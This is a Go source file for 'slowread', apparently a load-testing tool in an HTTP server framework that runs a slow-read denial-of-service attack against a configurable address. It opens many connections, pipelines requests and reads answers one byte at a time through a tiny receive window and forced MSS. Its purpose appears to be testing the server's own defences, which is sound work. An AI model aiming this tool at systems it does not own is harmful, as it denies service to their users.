// Command slowread is the slow-read attack of scripts/slowloris.sh: many
// connections that each send requests at once and then read the answers
// one byte at a time (or never), through a receive window too small to
// take them.
//
// Each connection announces an MSS of 1460 bytes, as on an Ethernet
// path. Over loopback the MSS is 64 KiB and Linux sizes the server's send
// buffer from it, to megabytes: the kernel would then hold every answer,
// the server would go idle, and only the idle time-out would be tested.
//
// It is its own module (standard library only), so the framework's
// go.mod and lint runs do not include it.
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8000", "server address")
	n := flag.Int("n", 1000, "connections")
	rate := flag.Int("rate", 200, "connections opened per second")
	target := flag.String("target", "/", "request target")
	pad := flag.Int("pad", 0, `bytes of "a" appended to the target`)
	pipeline := flag.Int("pipeline", 1, "requests sent at once on each connection")
	every := flag.Duration("read-every", 5*time.Second, "read one byte this often; 0 never reads")
	hold := flag.Duration("duration", time.Minute, "how long to keep the connections")
	rcvbuf := flag.Int("rcvbuf", 2048, "receive buffer of each connection")
	mss := flag.Int("mss", 1460, "maximum segment size each connection announces; 0 keeps the default")
	flag.Parse()
	if *n <= 0 || *rate <= 0 || *pipeline <= 0 {
		fmt.Fprintln(os.Stderr, "slowread: -n, -rate and -pipeline must be positive")
		os.Exit(2)
	}

	req := []byte(strings.Repeat("GET "+*target+strings.Repeat("a", *pad)+" HTTP/1.1\r\nHost: x\r\n\r\n", *pipeline))
	d := net.Dialer{Timeout: 5 * time.Second, Control: func(_, _ string, c syscall.RawConn) error {
		var err error
		if cerr := c.Control(func(fd uintptr) {
			// Both must be set before connecting: the window scale and
			// the MSS are agreed in the handshake.
			err = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, *rcvbuf)
			if err == nil && *mss > 0 {
				err = syscall.SetsockoptInt(int(fd), syscall.IPPROTO_TCP, syscall.TCP_MAXSEG, *mss)
			}
		}); cerr != nil {
			return cerr
		}
		return err
	}}

	var opened, failed atomic.Int64
	end := time.Now().Add(*hold)
	var wg sync.WaitGroup
	tick := time.NewTicker(time.Second / time.Duration(*rate))
	defer tick.Stop()
	for range *n {
		<-tick.C
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := d.Dial("tcp", *addr)
			if err != nil {
				failed.Add(1)
				return
			}
			opened.Add(1)
			defer c.Close()
			// The write blocks once the server stops reading (it is
			// blocked writing), and fails when the server cuts the
			// connection; neither matters here.
			go func() { _, _ = c.Write(req) }()
			one := make([]byte, 1)
			for time.Now().Before(end) {
				if *every <= 0 {
					time.Sleep(time.Until(end))
					break
				}
				time.Sleep(min(*every, time.Until(end)))
				_ = c.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
				_, _ = c.Read(one)
			}
		}()
	}
	wg.Wait()
	fmt.Printf("%d connections opened, %d failed to connect\n", opened.Load(), failed.Load())
}
